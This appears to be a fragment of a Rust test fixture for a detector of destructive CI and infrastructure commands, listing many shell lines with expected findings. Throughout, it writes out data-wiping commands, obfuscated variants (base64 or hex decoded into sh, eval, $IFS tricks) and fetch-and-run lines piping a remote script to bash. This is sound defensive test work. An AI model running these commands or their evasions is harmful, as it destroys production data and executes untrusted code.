        ("migrate -path db -database \"$DATABASE_URL\" down -all", &["database"]),
        ("migrate -path db -database \"$DATABASE_URL\" up", &[]),
        ("sqitch revert -y db:pg://prod/orders", &["database"]),
        ("sqitch revert --to @ROOT -y db:pg://prod/orders", &["database"]),
        ("sqitch revert --to @HEAD^ -y db:pg://prod/orders", &[]),
        ("pg_restore --clean --if-exists -d \"$PROD_URL\" orders.dump", &["database"]),
        ("pg_restore -d \"$PROD_URL\" orders.dump", &[]),
        ("mongorestore --drop --uri \"$MONGO_URI\" /backups/2025-01-01", &["database"]),
        ("heroku destroy --app orders-prod --confirm orders-prod", &["heroku apps:destroy"]),
        ("aws sqs purge-queue --queue-url https://sqs.eu-west-1.amazonaws.com/1/orders", &["aws_sqs_queue"]),
        ("kubectl --context prod delete sts/ledger,svc/ledger", &["Service", "StatefulSet"]),
        // A folder of manifests or a Kustomization deleted (red team 29);
        // a single file is a call the facade follows (reading its kinds:
        // a Job's, nothing), standard input is not read.
        ("oc delete -f k8s/", &["oc delete -f k8s/"]),
        ("kubectl delete -f k8s/ --wait --ignore-not-found", &["kubectl delete -f k8s/"]),
        ("kubectl delete -k overlays/prod", &["kubectl delete -k overlays/prod"]),
        ("kubectl delete --kustomize=overlays/prod", &["kubectl delete -k overlays/prod"]),
        ("kubectl delete -R -f manifests/orders.yaml", &["kubectl delete -f manifests/orders.yaml"]),
        (
            "kubectl delete -f jobs/migrate.yaml --ignore-not-found",
            &["runs task script jobs/migrate.yaml kubectl-delete"],
        ),
        ("kubectl delete -f -", &[]),
        ("kubectl delete -k overlays/preview", &[]),
        ("kubectl delete pipelinerun --all", &[]),
        ("kubectl delete ns orders", &["Namespace"]),
        ("kubectl delete pods --all", &[]),
        ("helm uninstall --namespace data orders-db", &["helm uninstall orders-db"]),
        (
            "aws rds delete-db-instance --db-instance-identifier orders --skip-final-snapshot",
            &["aws rds delete-db-instance"],
        ),
        ("aws s3 rb s3://orders-archive --force", &["aws s3 rb"]),
        ("aws s3 rm s3://site/assets --recursive", &[]),
        // Everything in a bucket, removed, is the bucket's removal.
        ("aws s3 rm s3://orders-archive --recursive", &["aws s3 rb"]),
        ("gsutil -m rm -r gs://acme-orders-prod-data", &["gsutil rb"]),
        ("gsutil -m rm -r 'gs://acme-orders-prod-data/**'", &["gsutil rb"]),
        ("gsutil rm -r gs://acme-orders/tmp/", &[]),
        ("gcloud storage rm --recursive gs://acme-orders-data", &["gsutil rb"]),
        // (A red team's misses: every object by `**`, flags together,
        // global options first, a release track; a dry run removes
        // nothing.)
        ("gsutil -m rm 'gs://acme-orders-prod-data/**'", &["gsutil rb"]),
        ("gsutil rm -rf gs://acme-orders-prod-data", &["gsutil rb"]),
        ("gsutil rm -fr gs://acme-orders-prod-data", &["gsutil rb"]),
        ("gsutil -u billing-proj -m rm -r gs://acme-orders-prod-data", &["gsutil rb"]),
        ("gsutil -u billing-proj rb gs://acme-orders-prod-data", &["gsutil rb"]),
        ("gsutil rm gs://acme-orders-prod-data/*.log", &[]),
        ("gcloud alpha storage rm --recursive gs://acme-orders-data", &["gsutil rb"]),
        ("gcloud storage rm 'gs://acme-orders-data/**'", &["gsutil rb"]),
        ("gcloud beta sql instances delete orders", &["gcloud sql instances delete"]),
        ("aws s3 rm s3://orders-archive --recursive --dryrun", &[]),
        // (A database's or service's parts that hold none of its data,
        // and access: a red team's false alarms.)
        ("gcloud sql backups delete 123 --instance orders", &[]),
        ("gcloud sql users delete reporting --instance orders", &[]),
        ("gcloud sql ssl-certs delete client --instance orders", &[]),
        ("gcloud compute instance-templates delete web-v1", &[]),
        ("gcloud compute backend-services delete web --global", &[]),
        ("gcloud run domain-mappings delete --domain shop.example.com", &[]),
        ("gcloud iam service-accounts delete deployer@acme.iam.gserviceaccount.com", &[]),
        // BigQuery's datasets and tables; s5cmd's buckets.
        ("bq rm -r -f -d acme:orders", &["bigquery_dataset"]),
        ("bq rm -rfd acme:orders", &["bigquery_dataset"]),
        ("bq --project_id acme rm --dataset=true orders", &["bigquery_dataset"]),
        ("bq rm -f -t acme:orders.events", &["bigquery_table"]),
        ("bq rm -f -m acme:orders.churn_model", &[]),
        ("bq ls acme:orders", &[]),
        ("s5cmd rb s3://orders-archive", &["aws s3 rb"]),
        ("s5cmd --endpoint-url https://minio.internal rm 's3://orders-archive/*'", &["aws s3 rb"]),
        ("s5cmd rm 's3://orders-archive/tmp/*'", &[]),
        ("s5cmd --dry-run rm 's3://orders-archive/*'", &[]),
        ("aws s3api delete-object --bucket site --key index.html", &[]),
        ("aws iam delete-access-key --access-key-id AKIA", &[]),
        ("aws ec2 delete-snapshot --snapshot-id snap-1", &[]),
        ("aws logs delete-log-group --log-group-name /app", &[]),
        ("aws dynamodb delete-table --table-name orders", &["aws dynamodb delete-table"]),
        // A red team's misses: quoted targets, CI variables, redirects,
        // trailing comments, assignments before the command, a saved
        // destroy plan.
        ("terraform destroy -target=\"aws_db_instance.main\" -auto-approve", &["aws_db_instance"]),
        ("terraform destroy -auto-approve -var-file=$CI_PROJECT_DIR/envs/prod.tfvars", &["terraform destroy"]),
        ("kubectl delete pvc data-orders-0 --token $CI_JOB_TOKEN", &["PersistentVolumeClaim"]),
        ("terraform destroy -auto-approve > /tmp/destroy.log", &["terraform destroy"]),
        ("terraform destroy -auto-approve # TODO remove after testing", &["terraform destroy"]),
        ("CI=true terraform destroy -auto-approve", &["terraform destroy"]),
        ("terraform -chdir=\"$CI_PROJECT_DIR/infra/prod\" destroy -auto-approve", &["terraform destroy"]),
        ("terraform plan -destroy -out=destroy.tfplan", &["terraform destroy"]),
        // And its false alarms: branch- and run-keyed environments, module
        // examples, prose, log helpers, step names, PowerShell output.
        ("az group delete -n rg-feature-${{ github.head_ref }} --yes", &[]),
        ("terraform -chdir=examples/complete destroy -auto-approve", &[]),
        ("log \"refusing to run terraform destroy from CI\"", &[]),
        ("To tear down, run terraform destroy by hand.", &[]),
        ("      - name: Fail if the plan would run terraform destroy", &[]),
        ("Write-Host \"this never calls terraform destroy\"", &[]),
        ("echo \"terraform destroy\"", &[]),
        // Quoted text after quoted text runs only if that ran: a `printf`
        // format is an argument (a false alarm); a quoted command's
        // quoted argument is not.
        ("printf \"%s\\n\" \"dropdb orders\"", &[]),
        ("printf '%s\\n' 'redis-cli -h cart-cache.prod FLUSHALL'", &[]),
        ("\"dropdb\" \"orders\"", &["database"]),
        ("printf \"%s\\n\" \"dropdb orders\" | sh", &["database"]),
        // Quoted text handed to a shell runs.
        ("sh 'terraform destroy -auto-approve'", &["terraform destroy"]),
        ("bash -c \"kubectl delete pvc data\"", &["PersistentVolumeClaim"]),
        ("sudo -E pulumi destroy --yes", &["pulumi destroy"]),
        ("\t-@terraform destroy -auto-approve", &["terraform destroy"]),
        // A sweep of published scripts: quoted names are names, camel-case
        // names have words, OpenShift projects are namespaces, expressions
        // are one word, variables named after a tool run it.
        ("aws cloudformation delete-stack --stack-name \"test-arole-bash\"", &[]),
        ("kubectl delete deployment \"review-${CI_COMMIT_REF_SLUG}\"", &[]),
        ("helm uninstall \"orders-postgresql\" other", &["helm uninstall orders-postgresql", "helm uninstall other"]),
        ("cdk destroy ReinventCatalogTestingCognito", &[]),
        ("az group delete -n platform-DevOps-rg --yes", &["az group delete"]),
        ("az group delete -n myapp-development-rg --yes", &[]),
        ("oc delete project --ignore-not-found north-america", &["Namespace"]),
        ("kubectl delete -n ${{ vars.PROD_NS }} pvc --all", &["PersistentVolumeClaim"]),
        ("bun cdk destroy --require-approval never", &["cdk destroy"]),
        ("$(TERRAFORM) destroy -auto-approve $(tf-params)", &["terraform destroy"]),
        ("az aks delete --name $AKS_CLUSTER_NAME --yes", &["az aks delete"]),
        ("az postgres flexible-server delete --name orders", &["az postgres flexible-server delete"]),
        ("gcloud container images delete gcr.io/acme/web:old --quiet", &[]),
        ("kubectl delete secret regcred --ignore-not-found", &[]),
        ("gcloud sql instances delete orders --quiet", &["gcloud sql instances delete"]),
        ("az group delete --name orders-prod --yes", &["az group delete"]),
        ("psql \"$URL\" -c 'DROP DATABASE orders'", &["database"]),
        // Tables dropped or emptied (red team 11: only databases and
        // schemas counted); rows deleted with a condition, the shell's
        // `truncate`, and words of a message do not.
        ("psql \"$DATABASE_URL\" -c 'DROP TABLE orders CASCADE'", &["database"]),
        ("mysql -e \"TRUNCATE TABLE ledger\" orders", &["database"]),
        ("psql -c 'TRUNCATE orders, payments'", &["database"]),
        ("echo 'DELETE FROM orders' | psql \"$URL\"", &["database"]),
        ("TRUNCATE ONLY ledger;", &["database"]),
        ("cqlsh \"$CASSANDRA\" -e 'DROP KEYSPACE orders'", &["database"]),
        ("psql -c \"DELETE FROM sessions WHERE expires_at < now()\"", &[]),
        ("truncate -s 0 /var/log/app.log", &[]),
        // A datastore's files removed on a host (red team 11).
        ("sudo rm -rf /var/lib/postgresql/16/main", &["database directory /var/lib/postgresql"]),
        ("ssh db-1 'sudo -u postgres rm -rf \"$PGDATA\"'", &["database directory $pgdata"]),
        ("rm -f /var/lib/mysql/mysql.sock", &[]),
        ("rm -rf /var/lib/apt/lists/*", &[]),
        ("echo rm -rf /var/lib/mysql", &[]),
        // Nomad's volumes (red team 11).
        ("nomad volume delete orders-pgdata", &["nomad volume delete"]),
        ("nomad volume status", &[]),
        // Data services' own command lines (red team 12: each was `owner`
        // on a tier-0 leaf); reading, a single key, and a preview's
        // host do not count.
        ("kafka-topics.sh --bootstrap-server $KAFKA --delete --topic orders", &["kafka-topics --delete"]),
        ("/opt/kafka/bin/kafka-topics.sh --bootstrap-server $KAFKA --list", &[]),
        (
            "docker exec kafka kafka-topics --bootstrap-server kafka:9092 --delete --topic orders",
            &["kafka-topics --delete"],
        ),
        // (`localhost` on another machine is that machine.)
        (
            "kubectl exec -n data kafka-0 -- kafka-topics --bootstrap-server localhost:9092 --delete --topic orders",
            &["kafka-topics --delete"],
        ),
        ("kafka-topics --bootstrap-server localhost:9092 --delete --topic orders", &[]),
        ("kafka-delete-records --bootstrap-server $KAFKA --offset-json-file purge.json", &["kafka-delete-records"]),
        ("rpk topic delete orders", &["rpk topic delete"]),
        (
            "kafka-configs --bootstrap-server $KAFKA --entity-type topics --entity-name orders --alter --add-config retention.ms=1000",
            &["kafka-configs retention"],
        ),
        (
            "kafka-configs.sh --bootstrap-server $KAFKA --alter --entity-type topics --entity-name orders --add-config 'cleanup.policy=delete,retention.ms=10'",
            &["kafka-configs retention"],
        ),
        (
            "kafka-configs --bootstrap-server $KAFKA --alter --entity-type topics --entity-name orders --add-config retention.ms=604800000",
            &[],
        ),
        ("rabbitmqctl force_reset", &["rabbitmqctl force_reset"]),
        ("rpk topic describe orders", &[]),
        ("rabbitmqadmin delete queue name=orders", &["rabbitmqadmin delete queue"]),
        ("rabbitmqadmin purge queue name=orders", &["rabbitmqadmin purge queue"]),
        ("rabbitmqadmin list queues", &[]),
        ("rabbitmqctl delete_vhost /orders", &["rabbitmqctl delete_vhost"]),
        ("redis-cli -h $REDIS_HOST FLUSHALL", &["redis flushall"]),
        ("kubectl exec -n cache redis-0 -- redis-cli flushdb async", &["redis flushdb"]),
        ("redis-cli -h $REDIS_HOST DEL session:42", &[]),
        // Every key a scan lists, deleted through `xargs` (red team 13):
        // a `DEL` that names no key of its own is fed the list.
        (
            "redis-cli -h cart-cache.prod --scan | xargs redis-cli -h cart-cache.prod DEL",
            &["redis del of listed keys (flushdb)"],
        ),
        (
            "redis-cli --scan --pattern 'session:*' | xargs -n 100 -P 4 redis-cli -h $REDIS_HOST unlink",
            &["redis del of listed keys (flushdb)"],
        ),
        (
            "redis-cli KEYS '*' | xargs -I{} redis-cli -h cart-cache.prod DEL {}",
            &["redis del of listed keys (flushdb)"],
        ),
        ("redis-cli -h redis.preview.svc --scan | xargs redis-cli -h redis.preview.svc DEL", &[]),
        ("redis-cli -h $REDIS_HOST --scan --pattern 'session:*'", &[]),
        ("redis-cli -h redis.preview.svc FLUSHALL", &[]),
        ("mongosh \"$MONGO_URI\" --eval \"db.dropDatabase()\"", &["mongodb dropDatabase"]),
        ("mongosh $URI --eval 'db.getSiblingDB(\"orders\").dropDatabase()'", &["mongodb dropDatabase"]),
        ("mongosh $URI --eval 'db.orders.deleteMany( {} )'", &["mongodb collection drop"]),
        ("mongosh $URI --eval 'db.orders.deleteMany({status: \"stale\"})'", &[]),
        ("mongosh $URI --eval 'db.orders.countDocuments()'", &[]),
        // A script file the shell runs is followed (red team 13).
        ("mongosh $MONGO_URI --file scripts/drop.js", &["runs task script scripts/drop.js mongo"]),
        ("mongosh $MONGO_URI -f ./scripts/drop.js", &["runs task script scripts/drop.js mongo"]),
        ("mongo $MONGO_URI scripts/drop.js", &["runs task script scripts/drop.js mongo"]),
        ("mongosh mongodb://orders-db.preview/orders --file scripts/drop.js", &[]),
        ("etcdctl del /registry/orders --prefix", &["etcdctl del --prefix"]),
        ("etcdctl del /locks/deploy", &[]),
        ("vault secrets disable secret/orders", &["vault secrets disable"]),
        ("vault kv metadata delete secret/orders/db", &["vault kv metadata delete"]),
        ("vault kv destroy -versions=1,2 secret/orders/db", &["vault kv destroy"]),
        ("vault kv get secret/orders/db", &[]),
        ("consul kv delete -recurse orders/", &["consul kv delete -recurse"]),
        ("consul kv delete orders/flag", &[]),
        ("nats stream rm ORDERS -f", &["nats stream rm"]),
        ("nats stream info ORDERS", &[]),
        ("pulsar-admin topics delete persistent://acme/orders/events", &["pulsar-admin topics delete"]),
        // Elasticsearch's and OpenSearch's indices deleted through their
        // API; a document, a rotation's log indices and reads are not.
        ("curl -s -X DELETE \"$ES_URL/orders\"", &["elasticsearch index"]),
        ("curl -XDELETE https://search-orders.eu-west-1.es.amazonaws.com/_all", &["elasticsearch index"]),
        (
            "curl --request DELETE \"https://opensearch.internal:9200/_data_stream/orders-events\"",
            &["opensearch data stream"],
        ),
        ("curl -X DELETE \"$ES_URL/orders/_doc/42\"", &[]),
        ("curl -X DELETE \"$ES_URL/logs-2024.01.01\"", &[]),
        ("curl -X GET \"$ES_URL/orders/_search\"", &[]),
        ("curl -X DELETE \"$API_URL/orders/42\"", &[]),
        // Red team 13: the shell's other ways of writing a command.
        ("\"terraform\" destroy -auto-approve", &["terraform destroy"]),
        ("'redis-cli' -h cart-cache.prod FLUSHALL", &["redis flushall"]),
        ("\\redis-cli -h cart-cache.prod FLUSHALL", &["redis flushall"]),
        // Red team 17: quotes and escapes inside a word, which the
        // shell's quote removal takes off.
        ("kube\"\"ctl delete namespace orders", &["Namespace"]),
        ("k\\ubectl delete namespace orders", &["Namespace"]),
        ("kubectl d\\elete name\\space orders", &["Namespace"]),
        ("terra''form -chdir=infra de\\stroy -auto-approve", &["terraform destroy"]),
        ("drop\"\"db orders", &["database"]),
        ("d\\ropdb orders", &["database"]),
        ("echo \"kube\"\"ctl delete\" ok", &[]),
        ("{ terraform destroy -auto-approve; }", &["terraform destroy"]),
        ("{ dropdb orders_production; }", &["database"]),
        // The field separator as a blank (a red team's miss); a name that
        // goes on after `$IFS` is another variable.
        ("dropdb${IFS}orders", &["database"]),
        ("kubectl$IFS delete namespace orders", &["Namespace"]),
        ("echo $IFSX dropdb orders", &[]),
        ("T=terraform; $T destroy -auto-approve", &["terraform destroy"]),
        ("export R=redis-cli && ${R} -h cart-cache.prod FLUSHALL", &["redis flushall"]),
        ("alias r=redis-cli; r -h cart-cache.prod FLUSHALL", &["redis flushall"]),
        ("stdbuf -oL terraform destroy -auto-approve", &["terraform destroy"]),
        ("watch -n 1 redis-cli -h cart-cache.prod FLUSHALL", &["redis flushall"]),
        ("parallel redis-cli -h {} FLUSHALL ::: cart-cache.prod", &["redis flushall"]),
        ("echo FLUSHALL | redis-cli -h cart-cache.prod", &["redis flushall"]),
        ("redis-cli -h cart-cache.prod <<< FLUSHALL", &["redis flushall"]),
        ("printf 'FLUSHALL\\n' | redis-cli -h cart-cache.prod", &["redis flushall"]),
        ("mongosh \"mongodb://orders-db.prod/orders\" <<< 'db.dropDatabase()'", &["mongodb dropDatabase"]),
        ("echo 'db.dropDatabase()' | mongosh \"$MONGO_URI\"", &["mongodb dropDatabase"]),
        ("bash -s <<< \"terraform destroy -auto-approve\"", &["terraform destroy"]),
        ("echo \"kubectl delete namespace orders\" | bash", &["Namespace"]),
        ("ssh ops@cache-host <<< 'redis-cli FLUSHALL'", &["redis flushall"]),
        // A script or SQL file fed to a shell or client on its standard
        // input (a red team's misses), and a feeder past a workflow's
        // `- run:`; a file fed to anything else is not run.
        ("bash -s < scripts/reset.sh", &["runs task script scripts/reset.sh sh:"]),
        ("ssh bastion 'bash -s' < scripts/reset.sh", &["runs task script scripts/reset.sh sh:"]),
        ("cat scripts/reset.sh | ssh bastion sh", &["runs task script scripts/reset.sh sh:"]),
        ("cat sql/drop.sql | psql \"$DATABASE_URL\"", &["runs task script sql/drop.sql sql"]),
        ("- run: echo FLUSHALL | redis-cli -h cart-cache.prod", &["redis flushall"]),
        // Commands written hidden (a red-team round's misses): escapes the
        // shell decodes, literals the line decodes and runs, substitutions
        // that print a literal, `eval`'s words, a setting with a blank,
        // code handed to another language; and what the line decodes from
        // what it does not show, which counts as the worst (fail closed).
        ("$'\\x64ropdb' orders", &["database"]),
        ("printf '\\x64ropdb orders' | sh", &["database"]),
        ("echo ZHJvcGRiIG9yZGVycw== | base64 -d | sh", &["database"]),
        ("eval \"$(echo ZHJvcGRiIG9yZGVycw== | base64 --decode)\"", &["database"]),
        ("echo 64726f706462206f7264657273 | xxd -r -p | bash", &["database"]),
        ("echo 'sredro bdpord' | rev | sh", &["database"]),
        ("bash <(echo 'dropdb orders')", &["database"]),
        ("$(echo dropdb) orders", &["database"]),
        ("CMD=\"dropdb orders\"; eval $CMD", &["database"]),
        ("CMD=\"dropdb orders\"; $CMD", &["database"]),
        ("python3 -c \"import os; os.system('dropdb orders')\"", &["database"]),
        ("node -e \"require('child_process').execSync('dropdb orders')\"", &["database"]),
        ("echo \"$PAYLOAD\" | base64 -d | sh", &["hidden_command"]),
        ("curl -s https://x.example/p | base64 --decode | bash", &["hidden_command"]),
        ("eval \"$(gpg -d run.sh.gpg)\"", &["hidden_command"]),
        ("echo \"$KUBECONFIG_B64\" | base64 -d > kubeconfig", &[]),
        ("echo ZGVwbG95 | base64 -d", &[]),
        ("python3 -c \"print('dropdb orders')\"", &[]),
        ("curl -fsSL https://get.example.sh | sh", &[]),
        // What a command substitution runs, in double quotes or in text a
        // shell is handed (a red team's misses: text in double quotes is
        // an argument, but what the shell substitutes into it runs); a
        // line of more than 64 counts as hiding one.
        ("echo \"$(dropdb orders)\"", &["database"]),
        ("rm -rf \"/tmp/$(dropdb orders)\"", &["database"]),
        ("echo \"`dropdb orders`\"", &["database"]),
        ("echo \"done: $(echo \"$(dropdb orders)\")\"", &["database"]),
        ("test -n \"$(psql -c \"DROP TABLE orders\")\"", &["database"]),
        ("sh -c 'echo \"$(dropdb orders)\"'", &["database"]),
        ("echo \"$(date -u) deploying $(git rev-parse --short HEAD)\"", &[]),
        ("awk '{print $(NF)}' hosts.txt", &[]),
        // (A second round: a `case` inside, a `#` that starts no comment,
        // a comment or key's text that may be a here-document's; and
        // single-quoted text no shell is handed, Markdown's backquotes.)
        ("echo \"$(case $ENV in prod) dropdb orders;; esac)\"", &["database"]),
        ("echo \"Build #$(dropdb orders)\"", &["database"]),
        ("echo ${X:- #}$(dropdb orders)", &["database"]),
        ("# generated by $(dropdb orders)", &["database"]),
        ("message: release $(kubectl delete pvc orders-data)", &["PersistentVolumeClaim"]),
        ("kubectl rollout restart deploy/orders # $(dropdb orders) by hand", &[]),
        ("# run `terraform destroy` by hand", &[]),
        ("git commit -m 'fix: stop `redis-cli FLUSHALL` in cleanup'", &[]),
        ("echo 'Run $(terraform destroy) at your own risk'", &[]),
        ("\"description\": \"Run `terraform destroy` only in the sandbox\",", &[]),
        // What `trap` runs at exit or on a signal.
        ("trap 'dropdb orders' EXIT", &["database"]),
        ("trap -- \"redis-cli -h orders-cache FLUSHALL\" INT TERM", &["redis flushall"]),
        ("trap 'rm -rf \"$WORKDIR\"' EXIT", &[]),
        ("trap -- 'echo \"$(dropdb orders)\"' EXIT", &["database"]),
        // A body that starts with `//` is a path (a residual of the
        // substitution red team); make's `$(shell ...)`.
        ("echo \"$(//usr/bin/dropdb orders)\"", &["database"]),
        ("X := $(shell dropdb orders)", &["database"]),
        ("X := $(shell git rev-parse --short HEAD)", &[]),
        ("trap -- 'echo \"$(date) done\"' EXIT", &[]),
        // Wrappers with an option's argument before the command, and two
        // more words before one.
        ("timeout -s KILL 30 dropdb orders", &["database"]),
        ("exec -a x dropdb orders", &["database"]),
        ("builtin command dropdb orders", &["database"]),
        ("coproc dropdb orders", &["database"]),
        ("timeout -s KILL 30 kubectl rollout status deploy/orders", &[]),
        // Knex run down to the first migration and Drizzle told to lose
        // data without asking; and the tools' ways of showing what would
        // be done (a red team's false alarms).
        ("npx knex migrate:rollback --all --env production", &["database"]),
        ("npx knex migrate:rollback", &[]),
        ("npx drizzle-kit push --force", &["database"]),
        ("npx drizzle-kit push", &[]),
        ("pulumi destroy --preview-only --stack prod", &[]),
        ("aws rds delete-db-instance --db-instance-identifier orders --generate-cli-skeleton", &[]),
        ("alembic downgrade base --sql", &[]),
        ("cat scripts/reset.sh | grep dropdb", &[]),
        // What `kubectl get KIND` lists, deleted through `xargs`; a command
        // a throwaway pod runs (`kubectl run tmp ... -- dropdb`).
        ("kubectl get pvc -n orders -o name | xargs kubectl delete", &["PersistentVolumeClaim"]),
        ("kubectl get pods -o name | xargs kubectl delete", &[]),
        ("mysql -e \"SELECT TRUNCATE(total, 2) FROM orders\"", &[]),
        ("mysql -e \"TRUNCATE orders\"", &["database"]),
        ("kubectl get pvc -o name | xargs echo", &[]),
        ("kubectl run tmp --rm -i --image=postgres:16 -- dropdb -h orders-db orders", &["database"]),
        ("kubectl run tmp --rm -i --image=postgres:16 -- psql -c 'SELECT 1'", &[]),
        ("sort < scripts/reset.sh", &[]),
        // Global options before a data tool's subcommand, and its other
        // ways to do the same (red team 13).
        ("rpk -X brokers=kafka.prod:9092 topic delete orders", &["rpk topic delete"]),
        ("nats --server nats.prod stream rm ORDERS -f", &["nats stream rm"]),
        (
            "pulsar-admin --admin-url http://pulsar.prod:8080 topics delete persistent://a/b/c",
            &["pulsar-admin topics delete"],
        ),
        ("pulsar-admin tenants delete public", &["pulsar-admin tenants delete"]),
        ("rabbitmqadmin -H mq.prod delete queue name=orders", &["rabbitmqadmin delete queue"]),
        ("rabbitmqadmin -V / delete queue name=orders", &["rabbitmqadmin delete queue"]),
        ("mongosh $URI --eval 'db.runCommand({dropDatabase: 1})'", &["mongodb dropDatabase"]),
        ("mongosh $URI --eval 'db.orders.deleteMany({}, {w: 1})'", &["mongodb collection drop"]),
        ("mongosh $URI --eval 'db.orders.bulkWrite([{deleteMany: {filter: {}}}])'", &["mongodb collection drop"]),
        ("redis-cli -h cart-cache.prod EVAL \"redis.call('flushall')\" 0", &["redis flushall"]),
        ("redis-cli -h cart-cache.prod GET flushall_count", &[]),
        ("vault delete sys/mounts/secret", &["vault secrets disable"]),
        ("vault delete secret/metadata/orders/db", &["vault kv metadata delete"]),
        ("vault delete auth/token/roles/ci", &[]),
        ("docker -H ssh://ops@prod volume prune -af", &["docker volume prune"]),
        ("docker -H ssh://ops@prod system prune --volumes -af", &["docker volume prune"]),
        ("docker system prune -af", &[]),
        // (Still text: printed, or fed to what only reads it.)
        ("echo \"terraform destroy\"", &[]),
        ("echo \"terraform destroy\" | tee -a notes.txt", &[]),
        ("echo \"$PASSWORD\" | docker login -u ci --password-stdin", &[]),
        ("\"$TERRAFORM_VERSION\" --help", &[]),
        // Docker's volumes: only on another host (a CI runner's or a
        // developer's own are routine teardown).
        ("docker compose down -v", &[]),
        ("docker-compose -f docker-compose.test.yml down --volumes", &[]),
        ("docker compose down", &[]),
        ("DOCKER_HOST=ssh://deploy@db-1 docker compose down -v", &["docker compose down --volumes"]),
        ("DOCKER_HOST=tcp://docker:2375 docker compose down -v", &[]),
        ("docker --context prod compose down --volumes", &["docker compose down --volumes"]),
        ("docker -H ssh://deploy@db-1 volume rm orders_pgdata", &["docker volume rm"]),
        ("docker --context default volume rm orders_pgdata", &[]),
        ("ssh deploy@db-1 docker compose -f /srv/orders/compose.yml down -v", &["docker compose down --volumes"]),
        (
            "ssh -i ~/.ssh/deploy deploy@db-1 'cd /srv/orders && docker compose down -v'",
            &["docker compose down --volumes"],
        ),
        ("ssh deploy@db-1 docker compose ps", &[]),
        // A command run over `ssh`, quoted or not, is read as the command.
        ("ssh ops@bastion \"terraform -chdir=/srv/infra destroy -auto-approve\"", &["terraform destroy"]),
        ("ssh -p 2222 ops@db-1 dropdb orders", &["database"]),
        ("ssh ops@db-1 uptime", &[]),
        ("echo \"truncate the logs and delete from the cache\"", &[]),
        ("retry 3 dropdb orders", &["database"]),
        ("kubectl apply -k overlays/prod", &[]),
        ("terraform plan -destroy", &[]),
        ("terraform destroy --dry-run", &[]),
        ("echo terraform destroy", &[]),
        ("# terraform destroy", &[]),
        ("helm uninstall review-$CI_MERGE_REQUEST_IID", &[]),
        ("kubectl delete namespace e2e-$RUN_ID; kubectl delete pvc ledger", &["PersistentVolumeClaim"]),
        // More tools: CDK for Terraform, SST, Copilot, Heroku, Fly.io,
        // DigitalOcean, GitLab's Terraform wrapper, Azure's resources and
        // complete deployments, PowerShell's Az and AWS cmdlets.
        ("npx cdktf destroy --auto-approve", &["cdktf destroy"]),
        ("npx sst remove --stage production", &["sst remove"]),
        ("npx sst remove --stage pr-${{ github.event.number }}", &[]),
        ("copilot env delete --name prod --yes", &["copilot env delete"]),
        ("heroku apps:destroy --app orders-api --confirm orders-api", &["heroku apps:destroy"]),
        ("heroku pg:reset DATABASE_URL --confirm orders-api", &["heroku pg:reset"]),
        ("heroku ps:restart web", &[]),
        ("flyctl apps destroy orders-api --yes", &["fly apps destroy"]),
        ("fly volumes destroy vol_123 --yes", &["fly volumes destroy"]),
        ("fly -t ci destroy-pipeline -p orders", &[]),
        ("fly deploy --remote-only", &[]),
        ("doctl databases delete $DB_ID --force", &["doctl databases delete"]),
        ("doctl kubernetes cluster delete orders-k8s -f", &["doctl kubernetes cluster delete"]),
        ("doctl compute droplet delete web-1 --force", &["doctl compute droplet delete"]),
        ("doctl registry garbage-collection start", &[]),
        ("gitlab-terraform destroy", &["terraform destroy"]),
        ("az resource delete --ids $RESOURCE_ID", &["az resource delete"]),
        // (A lock removed destroys nothing yet: a guard turned off.)
        ("az lock delete --name keep --resource-group orders", &["turns off az lock delete"]),
        // What a command acts on decides, not where it runs (a second
        // red team): a preview's release in the production cluster is the
        // preview's; a production database is production's whatever
        // profile or wrapper runs the command.
        ("helm uninstall orders-pr-12 --kube-context prod", &[]),
        ("dropdb --host prod-db.internal orders_pr_42", &[]),
        ("terraform destroy -auto-approve -var env=pr-12 -var-file=vars/prod-base.tfvars", &[]),
        ("ENV=ci dropdb orders_production", &["database"]),
        // (The user `sudo` runs it as is no command.)
        ("sudo -u postgres dropdb orders", &["database"]),
        ("sudo -u postgres psql -c 'SELECT 1'", &[]),
        (
            "aws-vault exec ci -- aws rds delete-db-instance --db-instance-identifier orders-prod",
            &["aws rds delete-db-instance"],
        ),
        ("aws --profile dev rds delete-db-instance --db-instance-identifier orders", &[]),
        ("az deployment group create -g orders --template-file main.bicep --mode Complete", &["complete deployment"]),
        ("az deployment group create -g orders --template-file main.bicep", &[]),
        ("Remove-AzResourceGroup -Name orders-prod -Force", &["Remove-AzResourceGroup"]),
        (
            "Remove-AzureRmSqlDatabase -ResourceGroupName rg -ServerName s -DatabaseName orders",
            &["Remove-AzureRmSqlDatabase"],
        ),
        (
            "Remove-RDSDBInstance -DBInstanceIdentifier orders -SkipFinalSnapshot $true -Force",
            &["Remove-RDSDBInstance"],
        ),
        ("Remove-S3Bucket -BucketName orders-archive -DeleteBucketContent", &["Remove-S3Bucket"]),
        ("Remove-AzResourceGroup -Name \"rg-pr-$env:PR_NUMBER\" -Force", &[]),
        ("Remove-AzStorageBlob -Container logs -Blob old.txt", &[]),
        ("Remove-AzResourceLock -LockName keep -Force", &["turns off Remove-AzResourceLock"]),
        ("Remove-Item -Recurse -Force ./build", &[]),
        ("Remove-ADGroup -Identity Admins", &[]),
        // Frameworks' database resets, outside test and local settings.
        ("npx prisma migrate reset --force", &["database"]),
        ("npx prisma db push --accept-data-loss", &["database"]),
        ("npx prisma migrate deploy", &[]),
        // (Rails refuses these on production unless told; Ecto and Entity
        // Framework work on development unless told.)
        ("bundle exec rails db:drop db:create db:migrate", &[]),
        ("DISABLE_DATABASE_ENVIRONMENT_CHECK=1 bundle exec rails db:drop db:create", &["database"]),
        ("mix ecto.reset", &[]),
        ("dotnet ef database drop --force --connection \"$PROD_CONNECTION\"", &["database"]),
        ("while ! npx prisma@5 migrate reset --force; do sleep 1; done", &["database"]),
        ("python -m django flush --noinput", &["database"]),
        ("uv run manage.py flush --noinput", &["database"]),
        ("php bin/console doctrine:database:drop --force", &["database"]),
        ("RAILS_ENV=test bin/rails db:reset", &[]),
        ("bin/rails db:migrate", &[]),
        ("php artisan migrate:fresh --seed --force", &["database"]),
        ("php artisan migrate --force", &[]),
        ("python manage.py flush --noinput", &["database"]),
        ("./manage.py migrate", &[]),
        ("MIX_ENV=prod mix ecto.reset", &["database"]),
        ("docker run --rm flyway/flyway:10 -url=jdbc:postgresql://db/orders clean", &["database"]),
        ("liquibase --changelog-file=db.xml dropAll", &["database"]),
        ("dotnet ef database drop --force", &[]),
        ("npx sequelize-cli db:migrate:undo:all", &["database"]),
        ("supabase db reset --linked", &["database"]),
        ("supabase db reset", &[]),
